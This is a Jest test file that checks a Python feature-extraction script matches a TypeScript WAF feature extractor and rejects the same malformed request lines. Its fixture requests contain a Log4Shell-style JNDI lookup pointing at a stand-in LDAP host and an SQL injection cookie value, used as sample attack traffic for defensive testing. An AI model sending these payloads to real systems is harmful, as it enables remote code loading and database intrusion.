import { spawnSync } from 'node:child_process';
import path from 'node:path';
import { parseRequestLine } from '../../src/features/request-line';
import { extractWafV1 } from '../../src/features/waf-v1';

const TWIN = path.resolve(__dirname, '..', '..', 'examples', 'python', 'crs_ml_features.py');

/** Contract v2 lines as `parse` prints them; waf-v1 ignores the v2 fields on both sides. */
const V2_LINES = [
  '{"v":2,"method":"GET","path":"/api","args":{"ARGS:q":"blue shoes"},"files":{},"sizes":{},"hour":7,"day":29,' +
    '"headers":{"REQUEST_HEADERS:User-Agent":"${jndi:ldap://a.example/x}","REQUEST_HEADERS:User-Agent":"curl/8"},' +
    '"cookies":{"REQUEST_COOKIES:id":"1\' OR \'1\'=\'1"},"crs":{"inbound_anomaly_score_pl1":5,"sql_injection_score":-2.5e0}}',
  '{"method":"POST","path":"/x","args":{},"hour":"07","day":1,"body":"{\\"a\\":1}","crs":{"xss_score":0}}',
  '{"v":1,"method":"GET","path":"/","args":{"ARGS:a":"1"},"hour":0,"day":31}',
];

const python = ['python3', '/usr/bin/python3'].find((exe) => spawnSync(exe, ['--version']).status === 0);

function twin(input: string): { status: number | null; stdout: string; stderr: string } {
  return spawnSync(python!, [TWIN, '--input', '-'], { encoding: 'utf8', input });
}

// Skipped only where no Python 3 exists (CI installs python3): the twin cannot run then.
(python ? describe : describe.skip)('the Python twin reads contract v2 lines', () => {
  it('gives the same waf-v1 rows as the TypeScript extractor', () => {
    const run = twin(`${V2_LINES.join('\n')}\n`);
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const rows = run.stdout.trim().split('\n').map((line) => JSON.parse(line) as number[]);
    expect(rows).toEqual(V2_LINES.map((line) => extractWafV1(parseRequestLine(line))));
  });

  it.each([
    ['a CRS score given as a string', '"v":2,"crs":{"x":"1"}', 'field "crs": "x" must be a finite JSON number'],
    ['a CRS score that is not finite', '"v":2,"crs":{"x":1e999}', 'field "crs": "x" must be a finite JSON number'],
    ['an unknown version', '"v":3', 'field "v" is not a contract version'],
    ['v2 fields under "v":1', '"v":1,"cookies":{}', 'field "cookies" is a contract v2 field'],
    ['a header value given as a number', '"headers":{"h":1}', 'field "headers": "h" must be a string'],
  ])('refuses %s, as the TypeScript reader does', (_case, extra, message) => {
    const line = `{"method":"GET","path":"/","args":{},"hour":7,"day":29,${extra}}`;
    expect(() => parseRequestLine(line)).toThrow();
    const run = twin(`${line}\n`);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(message);
  });
});
